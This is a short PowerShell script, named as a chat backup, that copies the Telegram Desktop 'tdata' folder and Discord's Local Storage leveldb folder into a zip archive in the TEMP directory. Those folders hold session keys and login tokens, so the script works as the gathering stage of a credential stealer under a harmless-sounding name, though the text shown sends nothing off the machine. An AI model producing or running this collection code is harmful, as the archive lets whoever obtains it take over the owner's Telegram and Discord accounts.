$out = Join-Path $env:TEMP 'chat-backup'
New-Item -ItemType Directory -Force $out | Out-Null
$sources = @(
    (Join-Path $env:APPDATA 'Telegram Desktop\tdata'),
    (Join-Path $env:APPDATA 'discord\Local Storage\leveldb')
)
foreach ($s in $sources) {
    if (Test-Path $s) { Copy-Item -Recurse -Force $s (Join-Path $out (Split-Path $s -Leaf)) }
}
Compress-Archive -Force -Path "$out\*" -DestinationPath "$env:TEMP\chat-backup.zip"
Write-Host "Archive: $env:TEMP\chat-backup.zip"
